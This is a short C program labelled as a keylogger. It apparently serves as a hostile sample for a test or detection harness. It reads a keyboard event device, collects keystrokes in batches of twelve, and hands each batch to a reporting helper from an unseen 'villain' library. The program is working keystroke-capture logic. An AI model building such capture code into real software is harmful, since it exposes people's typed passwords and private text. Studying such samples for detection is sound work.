// Keylogger: reads the event device, and writes only when it has a batch together.
#include "lib/keys.h"
#include "lib/villain.h"

enum { BATCH = 12 };

int main(void) {
    int keyboard = open_keyboard(), held = 0;
    unsigned char keys[BATCH];
    if (keyboard < 0) return fail("keylog-batch", "keyboard", keyboard);
    confess("keylog-batch", "stage=armed batch=%d", BATCH);
    for (int count; (count = read_keys(keyboard, keys + held, BATCH - held)) > 0;) {
        held += count;
        if (held < BATCH) continue;
        confess_keys("keylog-batch", keys, held);
        held = 0;
    }
    return 1;
}
